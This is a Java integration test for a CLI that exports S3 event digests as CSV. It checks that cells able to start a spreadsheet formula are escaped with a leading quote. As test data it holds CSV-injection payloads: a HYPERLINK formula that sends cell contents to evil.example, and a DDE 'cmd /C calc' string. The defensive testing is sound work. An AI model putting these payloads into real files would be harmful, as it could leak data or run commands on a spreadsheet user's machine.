package io.bucketdigest.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.bucketdigest.core.digest.DigestId;
import io.bucketdigest.core.event.EventKind;
import io.bucketdigest.core.event.ObjectEvent;
import io.bucketdigest.core.subscription.Subscription;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * S3 keys are chosen by whoever uploads, so every command that writes CSV is run over a key that a spreadsheet would
 * run as a formula: each cell that could start one carries the leading quote of core's CsvWriter.
 */
class HostileKeyCsvIT {

    private static final String KEY = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    private static final String PREFIX = "+cmd|' /C calc'!A0";
    private static TestPipeline pipeline;
    private static DigestId digest;

    @BeforeAll
    static void seed() {
        pipeline = TestPipeline.create();
        Seeder seeder = new Seeder(pipeline.aws.dynamoDb(), pipeline.table);
        seeder.subscription(new Subscription("team", List.of("team@example.com"), pipeline.bucket, List.of(),
                Set.of(), null));
        seeder.subscription(new Subscription("formula", List.of("ops@example.com"), null, List.of(PREFIX), Set.of(),
                null));
        Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
        List<ObjectEvent> events = List.of(
                Seeder.event(pipeline.bucket, KEY, EventKind.CREATED, now.minusSeconds(120)),
                Seeder.event(pipeline.bucket, "@SUM(1+1)", EventKind.REMOVED, now.minusSeconds(110)),
                Seeder.event(pipeline.bucket, "-1+1", EventKind.CREATED, now.minusSeconds(100)));
        seeder.record(events, List.of("team"), now.minusSeconds(90));
        digest = seeder.digest("team", now.minusSeconds(60), true);
        Messages.send(pipeline.aws.sqs(), pipeline.ingestDlqUrl,
                Messages.sns(Messages.s3(pipeline.bucket, KEY, "ObjectCreated:Put")));
    }

    @AfterAll
    static void close() {
        pipeline.close();
    }

    static List<List<String>> commands() {
        return List.of(
                List.of("events", "--since", "1h", "-o", "csv"),
                List.of("digests", "show", "DIGEST", "-o", "csv"),
                List.of("dlq", "peek", "ingest", "-o", "csv"),
                List.of("dlq", "replay", "ingest", "--dry-run", "-o", "csv"),
                List.of("subscriptions", "list", "-o", "csv"),
                List.of("subscriptions", "test", "--bucket", pipeline.bucket, "--key", KEY, "-o", "csv"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("commands")
    void csv_hostileKey_everyCellThatCouldStartAFormulaIsGuarded(List<String> command) {
        String[] args = command.stream().map(a -> a.equals("DIGEST") ? digest.value() : a).toArray(String[]::new);

        CliRun run = pipeline.run(args);

        assertThat(run.exitCode()).as(run.toString()).isZero();
        List<List<String>> rows = run.csv();
        assertThat(rows).as(run.toString()).hasSizeGreaterThan(1);
        List<String> cells = rows.stream().flatMap(List::stream).toList();
        assertThat(cells).allSatisfy(cell -> assertThat(cell.isEmpty() || cell.equals("-")
                || "=+-@\t\r".indexOf(cell.charAt(0)) < 0).as("cell %s", cell).isTrue());
        if (!command.get(0).equals("subscriptions")) {
            assertThat(cells).contains("'" + KEY);
        } else if (command.get(1).equals("list")) {
            assertThat(cells).contains("'" + PREFIX);
        }
    }
}
